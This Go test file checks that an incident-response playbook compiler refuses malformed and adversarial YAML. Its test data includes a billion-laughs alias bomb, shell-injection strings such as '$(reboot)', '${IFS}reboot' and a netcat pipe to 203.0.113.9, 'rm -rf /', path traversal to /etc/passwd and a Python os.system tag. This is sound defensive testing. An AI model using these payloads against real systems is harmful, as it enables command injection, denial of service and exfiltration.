package generator

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/irflow/irflow/generator/diag"
	"github.com/irflow/irflow/tasks/catalog"
)

// hostileBase is a valid playbook the hostile cases bend: an approval, then
// a destructive step.
const hostileBase = `apiVersion: irflow/v1
kind: Playbook
metadata:
  name: hostile
  title: Hostile
  severity: HIGH
steps:
  - id: approve
    approval: { prompt: "Stop?" }
  - id: stop
    action: stop-task
`

// want is the first error a hostile playbook must produce: its code, line
// and JSON Pointer. An empty code means the playbook compiles (and why that
// is safe is said in the case's comment).
type want struct {
	code string
	line int
	path string
	msg  string // a part of the message
}

func hostileEdit(old, new string) string {
	if !strings.Contains(hostileBase, old) {
		panic("hostileBase has no " + old)
	}
	return strings.Replace(hostileBase, old, new, 1)
}

// billionLaughs is the classic alias bomb: 9 levels of 10 aliases each, a
// billion strings once expanded, a few hundred bytes as text.
func billionLaughs() string {
	var b strings.Builder
	b.WriteString("apiVersion: irflow/v1\nkind: Playbook\nx0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n")
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, "x%d: &l%d [", i, i)
		for j := 0; j < 10; j++ {
			if j > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "*l%d", i-1)
		}
		b.WriteString("]\n")
	}
	b.WriteString("metadata: { name: bomb, title: *l9 }\nsteps: []\n")
	return b.String()
}

// TestHostilePlaybooks: malformed and adversarial playbooks each get the
// diagnostic (code, line, path) that names what is wrong, quickly, and
// never a panic.
func TestHostilePlaybooks(t *testing.T) {
	big := hostileBase + "# " + strings.Repeat("x", 2<<20) + "\n" // 2 MiB
	cases := []struct {
		name string
		src  string
		want want
	}{
		{"2 MiB file", big, want{diag.CodeLimit, 1, "", "bytes; a playbook may have at most"}},
		{"100-level nesting", hostileEdit("  title: Hostile\n", "  title: Hostile\n  description: "+strings.Repeat("[", 100)+strings.Repeat("]", 100)+"\n"),
			want{diag.CodeLimit, 6, "/metadata/description/" + strings.TrimSuffix(strings.Repeat("0/", 63), "/"), "nesting deeper than 64 levels"}},
		{"100-level mapping nesting", hostileEdit("  title: Hostile\n", "  title: Hostile\n  owner: "+strings.Repeat("{a: ", 100)+"x"+strings.Repeat("}", 100)+"\n"),
			want{diag.CodeLimit, 6, "", "nesting deeper than 64 levels"}},
		{"billion laughs", billionLaughs(), want{diag.CodeLimit, 0, "", "expands to more than"}},
		{"NUL byte", hostileEdit("title: Hostile", "title: Host\x00ile"), want{diag.CodeYAML, 5, "", "NUL byte"}},
		{"raw control character", hostileEdit("title: Hostile", "title: Hostile\x1b[31m"), want{diag.CodeYAML, 5, "", "control character U+001B (ESC) is not allowed"}},
		{"escaped control character", hostileEdit("title: Hostile", `title: "Hostile\e[2J"`), want{diag.CodeSchema, 5, "/metadata/title", "control character U+001B (ESC)"}},
		{"bidi override", hostileEdit("title: Hostile", "title: Host\u202eile"), want{diag.CodeSchema, 5, "/metadata/title", "control character U+202E (RLO)"}},
		{"tab indentation", hostileEdit("  title: Hostile", "\ttitle: Hostile"), want{diag.CodeYAML, 4, "", "tab character"}},
		{"not YAML", "apiVersion: irflow/v1\nmetadata: [unclosed\n", want{diag.CodeYAML, 0, "", ""}},
		{"empty file", "", want{diag.CodeYAML, 1, "", "empty document"}},
		{"two documents", hostileBase + "---\n" + hostileBase, want{diag.CodeYAML, 12, "", "more than one YAML document"}},
		{"duplicate key", hostileEdit("  title: Hostile\n", "  title: Hostile\n  title: Evil\n"), want{diag.CodeYAML, 6, "/metadata/title", "is defined twice"}},
		{"a list, not a playbook", "- rm -rf /\n", want{diag.CodeSchema, 1, "", ""}},
		{"shell in a step id", hostileEdit("id: stop", `id: "stop;reboot"`), want{diag.CodeSchema, 10, "/steps/1/id", "not in the expected format"}},
		{"command substitution in a step id", hostileEdit("id: stop", `id: "$(reboot)"`), want{diag.CodeSchema, 10, "/steps/1/id", "not in the expected format"}},
		{"path traversal in the name", hostileEdit("name: hostile", "name: ../../etc/passwd"), want{diag.CodeSchema, 4, "/metadata/name", "not in the expected format"}},
		{"newline in a finding type", hostileEdit("steps:", "triggers:\n  guardduty:\n    findingTypes: [\"Impact:Runtime/*\\nrm -rf /\"]\nsteps:"),
			want{diag.CodeSchema, 9, "/triggers/guardduty/findingTypes/0", "not in the expected format"}},
		{"shell as a severity", hostileEdit("steps:", "triggers:\n  guardduty:\n    findingTypes: [\"Impact:Runtime/*\"]\n    minSeverity: \"$(reboot)\"\nsteps:"),
			want{diag.CodeSchema, 10, "/triggers/guardduty/minSeverity", "expected number"}},
		{"homoglyph key", hostileEdit("    action: stop-task", "    \u0430ction: stop-task"), want{diag.CodeSchema, 10, "/steps/1", "does nothing"}},
		{"huge integer", hostileEdit("    action: stop-task\n", "    action: stop-task\n    retry: { maxAttempts: 99999999999999999999999 }\n"),
			want{diag.CodeSchema, 12, "/steps/1/retry/maxAttempts", "must be <="}},
		{"huge duration", hostileEdit("    action: stop-task\n", "    action: stop-task\n    timeout: 9999999999999999999h\n"),
			want{diag.CodeSchema, 12, "/steps/1/timeout", "not a duration"}},
		{"approver of the wrong service", hostileEdit("steps:", "approval:\n  approvers: [\"arn:aws:s3:::evidence-bucket\"]\nsteps:"),
			want{diag.CodeSchema, 8, "/approval/approvers/0", "not in the expected format"}},
		{"approver of a made-up partition", hostileEdit("steps:", "approval:\n  approvers: [\"arn:evil:iam::123456789012:role/x\"]\nsteps:"),
			want{diag.CodeSchema, 8, "/approval/approvers/0", "not in the expected format"}},
		{"approver with a short account", hostileEdit("steps:", "approval:\n  approvers: [\"arn:aws:iam::1234:role/x\"]\nsteps:"),
			want{diag.CodeSchema, 8, "/approval/approvers/0", "not in the expected format"}},
		{"approver with a shell in its name", hostileEdit("steps:", "approval:\n  approvers: [\"arn:aws:iam::123456789012:role/x;reboot\"]\nsteps:"),
			want{diag.CodeSchema, 8, "/approval/approvers/0", "not in the expected format"}},
		{"an action named like a shell", hostileEdit("action: stop-task", `action: "stop-task; reboot"`), want{diag.CodeUnknownAction, 11, "/steps/1/action", ""}},
		// Go's YAML decoder never runs tags: a Python tag is a plain string.
		{"python tag", hostileEdit("title: Hostile", "title: !!python/object/apply:os.system [reboot]"), want{diag.CodeSchema, 5, "/metadata/title", "expected string"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			start := time.Now()
			r, ds := Compile([]byte(c.src), "hostile.yaml", Options{})
			if took := time.Since(start); took > 3*time.Second {
				t.Errorf("took %v", took)
			}
			checkFirstError(t, r, ds, c.want)
		})
	}
}

// checkFirstError compares the first error diagnostic with w.
func checkFirstError(t *testing.T, r *Result, ds diag.Diagnostics, w want) {
	t.Helper()
	var first *diag.Diagnostic
	for i := range ds {
		if ds[i].Line < 1 || ds[i].Column < 1 || ds[i].Message == "" {
			t.Errorf("diagnostic without a position or message: %+v", ds[i])
		}
		if ds[i].Severity == diag.Error && first == nil {
			first = &ds[i]
		}
	}
	if w.code == "" {
		if first != nil || r == nil {
			t.Fatalf("want it compiled; got %v", ds)
		}
		return
	}
	if first == nil {
		t.Fatalf("compiled; want error %s at line %d %s", w.code, w.line, w.path)
	}
	if r != nil {
		t.Errorf("a playbook with errors produced a result")
	}
	if first.Code != w.code || (w.line > 0 && first.Line != w.line) || (w.path != "" && first.Path != w.path) || !strings.Contains(first.Message, w.msg) {
		t.Errorf("got %d:%d %s [%s] %q\nwant line %d %s [%s] containing %q", first.Line, first.Column, first.Code, first.Path, first.Message,
			w.line, w.code, w.path, w.msg)
	}
}

// hostileValues are what an attacker puts in a string a task may pass on:
// command substitution, backticks, command separators, pipes, a newline
// (a new line of an SSM shell command), NUL and escape characters, a quote
// breaking out of single quotes, and a path traversal.
var hostileValues = []string{
	"$(reboot)", "`reboot`", "x; reboot", "x && reboot", "x | nc 203.0.113.9 4444", "x\nreboot", "x\x00y", "x\x1b[2J",
	"x' ; reboot ; '", "${IFS}reboot", "../../../etc/passwd",
}

// stringParams classifies every string parameter of every action's with:
// (a test below keeps the list complete), by what the task does with it:
//
//   - hostScript: spliced into the shell script SSM runs on the container
//     instance (tasks/hostcmd): every hostile value must be refused here,
//     and tasks/hostcmd refuses it again at render time.
//   - identifier: passed to an AWS API as a name or id: refused by pattern.
//   - tag: a tag value: refused unless plain text (a path is plain text).
//   - apiText: free text passed to an AWS API as a parameter value (an SNS
//     message, an ECS stop reason, a CloudWatch Logs filter), never to a
//     shell. Allowed except control characters where the schema says so
//     (apiTextNoControl).
var stringParams = map[string]string{
	"capture-memory.avmlUrl":                         "hostScript",
	"resolve-target.correlate":                       "identifier", // set by the compiler from triggers.correlate (an enum)
	"capture-memory.avmlSha256":                      "hostScript",
	"capture-traffic.mirrorTargetId":                 "identifier",
	"capture-traffic.mirrorFilterId":                 "identifier",
	"isolate-network.quarantineGroupName":            "identifier",
	"revoke-task-role-sessions.policyName":           "identifier",
	"revoke-task-role-sessions.scope":                "identifier",
	"tag-resources.status":                           "tag",
	"notify.event":                                   "identifier",
	"notify.subject":                                 "apiTextNoControl",
	"stop-task.reason":                               "apiTextNoControl",
	"notify.message":                                 "apiText",
	"collect-logs.filterPattern":                     "apiText",
	"request-approval.prompt":                        "apiText",
	"tag-resources.extraTags":                        "tag",
	"request-approval.approvers":                     "identifier",
	"collect-host-artifacts.include":                 "identifier",
	"request-approval.onTimeout":                     "identifier",
	"capture-traffic.mode":                           "identifier",
	"enable-flow-logs.trafficType":                   "identifier",
	"exec-triage.container":                          "identifier", // an ECS container name, never part of the command
	"enable-flow-logs.maxAggregationIntervalSeconds": "",           // an enum of numbers
	"find-siblings.clusters":                         "identifier",
	"find-siblings.containers":                       "identifier",
	"find-siblings.excludeTaskTags":                  "tag", // set by the compiler from exclude.taskTags (tagMap)
	"pin-service.mode":                               "identifier",
	"release-containment.steps":                      "identifier",
	"pin-service.fallback":                           "identifier",
	"pin-service.containers":                         "identifier",
}

// TestEveryStringParamClassified: a new string parameter must be
// classified in stringParams (and so covered by the hostile-value test).
func TestEveryStringParamClassified(t *testing.T) {
	for _, a := range catalog.All() {
		var schema struct {
			Properties map[string]json.RawMessage `json:"properties"`
		}
		if err := json.Unmarshal(a.Params, &schema); err != nil {
			t.Fatalf("%s: %v", a.Name, err)
		}
		for name, raw := range schema.Properties {
			if !bytes.Contains(raw, []byte(`"string"`)) && !bytes.Contains(raw, []byte(`"enum"`)) {
				continue
			}
			if _, ok := stringParams[a.Name+"."+name]; !ok {
				t.Errorf("%s.%s takes strings: classify it in stringParams (hostScript, identifier, apiText)", a.Name, name)
			}
		}
	}
}

// playbookWith is a playbook whose only real step is action with one
// parameter set to value (after an approval, so destructive actions pass).
func playbookWith(action, param, value string) (src string, line int) {
	v, _ := json.Marshal(value) // JSON strings are YAML double-quoted scalars
	pre := hostileBase[:strings.Index(hostileBase, "  - id: stop")]
	src = pre + "  - id: act\n    action: " + action + "\n    with:\n      " + param + ": " + string(v) + "\n"
	return src, strings.Count(pre, "\n") + 4
}

// TestHostileStringParams: every hostile value in every string parameter
// that a task passes on is refused with a schema diagnostic on its line,
// unless the parameter is free text an API receives (never a shell).
func TestHostileStringParams(t *testing.T) {
	names := make([]string, 0, len(stringParams))
	for k := range stringParams {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, key := range names {
		class := stringParams[key]
		action, param, _ := strings.Cut(key, ".")
		a := catalog.Lookup(action)
		if class == "" || a == nil || a.Inserted || action == "request-approval" || !strings.Contains(string(a.Params), `"`+param+`"`) {
			continue
		}
		if param == "extraTags" || param == "include" {
			continue // objects and arrays: TestHostileContainers
		}
		if slices.Contains(a.Reserved, param) {
			continue // no step may write it at all: TestExcludeTaskTagsIsReserved
		}
		for _, v := range hostileValues {
			src, line := playbookWith(action, param, v)
			_, ds := Compile([]byte(src), "hostile.yaml", Options{})
			var first *diag.Diagnostic
			for i := range ds {
				if ds[i].Severity == diag.Error {
					first = &ds[i]
					break
				}
			}
			hasControl := strings.ContainsAny(v, "\x00\n\x1b")
			// Control characters other than tab and newline are refused in
			// every string of a playbook (checkText), free text included.
			mustRefuse := class == "hostScript" || class == "identifier" || class == "apiTextNoControl" && hasControl ||
				class == "tag" && !strings.HasPrefix(v, "../") || strings.ContainsAny(v, "\x00\x1b")
			switch {
			case mustRefuse && first == nil:
				t.Errorf("%s = %q compiled; a %s must refuse it", key, v, class)
			case mustRefuse && (first.Code != diag.CodeSchema || first.Line != line || !strings.HasSuffix(first.Path, "/with/"+param)):
				t.Errorf("%s = %q: got %s at %d [%s] %s; want schema at line %d on .../with/%s", key, v, first.Code, first.Line, first.Path, first.Message, line, param)
			case !mustRefuse && first != nil:
				t.Errorf("%s = %q (free text an API receives) refused: %v", key, v, first)
			}
		}
	}
}

// TestHostileContainers: hostile keys and values in extraTags (but a path,
// which is plain text in a tag), hostile items in include, and hostile
// approvers are refused on their line.
func TestHostileContainers(t *testing.T) {
	pre := hostileBase[:strings.Index(hostileBase, "  - id: stop")]
	line := strings.Count(pre, "\n") + 4
	for _, v := range hostileValues {
		q, _ := json.Marshal(v)
		for _, c := range []struct{ with, path string }{
			{"extraTags: { " + string(q) + ": x }", "/steps/1/with/extraTags/"},
			{"extraTags: { ticket: " + string(q) + " }", "/steps/1/with/extraTags/ticket"},
		} {
			src := pre + "  - id: act\n    action: tag-resources\n    with:\n      " + c.with + "\n"
			_, ds := Compile([]byte(src), "hostile.yaml", Options{})
			if strings.HasPrefix(v, "../") {
				if len(ds) > 0 {
					t.Errorf("%s: %v; a path is plain text in a tag", c.with, ds)
				}
				continue
			}
			if len(ds) == 0 || ds[0].Code != diag.CodeSchema || ds[0].Line != line || !strings.HasPrefix(ds[0].Path, c.path) {
				t.Errorf("%s: %v; want schema at line %d on %s", c.with, ds, line, c.path)
			}
		}
		src := pre + "  - id: act\n    action: collect-host-artifacts\n    with:\n      include: [" + string(q) + "]\n"
		if _, ds := Compile([]byte(src), "hostile.yaml", Options{}); len(ds) == 0 || ds[0].Code != diag.CodeSchema || ds[0].Line != line {
			t.Errorf("include %q: %v; want schema at line %d", v, ds, line)
		}
		// IAM role paths may hold slashes and dots: only the path is let through.
		src = strings.Replace(hostileBase, "steps:", "approval:\n  approvers: [\"arn:aws:iam::123456789012:role/"+strings.Trim(string(q), `"`)+"\"]\nsteps:", 1)
		_, ds := Compile([]byte(src), "hostile.yaml", Options{})
		if strings.HasPrefix(v, "../") != (len(ds) == 0) || len(ds) > 0 && (ds[0].Code != diag.CodeSchema || ds[0].Line != 8 || ds[0].Path != "/approval/approvers/0") {
			t.Errorf("approver ending %q: %v; want a schema diagnostic at line 8 on /approval/approvers/0", v, ds)
		}
	}
}

// TestHostileFreeTextNeverReachesAShell: the free text a playbook may carry
// (approval prompts, notify messages, stop reasons, log filters, titles)
// compiles into the state machine as data: the ASL holds it only as a JSON
// string value, escaped, in the Payload's with: block.
func TestHostileFreeTextNeverReachesAShell(t *testing.T) {
	v := "$(reboot); `id` | nc 203.0.113.9 4444 ' \" \\"
	q, _ := json.Marshal(v)
	src := strings.Replace(hostileBase, `prompt: "Stop?"`, "prompt: "+string(q), 1) +
		"    with: { reason: " + string(q) + " }\n  - id: tell\n    action: notify\n    with: { message: " + string(q) + " }\n" +
		"  - id: logs\n    action: collect-logs\n    with: { filterPattern: " + string(q) + " }\n"
	r, ds := Compile([]byte(src), "hostile.yaml", Options{})
	if r == nil {
		t.Fatalf("%v", ds)
	}
	var def any
	if err := json.Unmarshal(r.ASL, &def); err != nil {
		t.Fatal(err)
	}
	found := 0
	var walk func(any)
	walk = func(x any) {
		switch x := x.(type) {
		case map[string]any:
			for _, y := range x {
				walk(y)
			}
		case []any:
			for _, y := range x {
				walk(y)
			}
		case string:
			if strings.Contains(x, "reboot") {
				if x != v {
					t.Errorf("the hostile text reached the ASL altered or embedded: %q", x)
				}
				found++
			}
		}
	}
	walk(def)
	if found < 3 {
		t.Errorf("found the text %d times in the ASL; want it as the prompt, reason, message and filter values", found)
	}
	if os.Getenv("IRFLOW_HOSTILE_DEBUG") != "" {
		t.Logf("%s", r.ASL)
	}
}
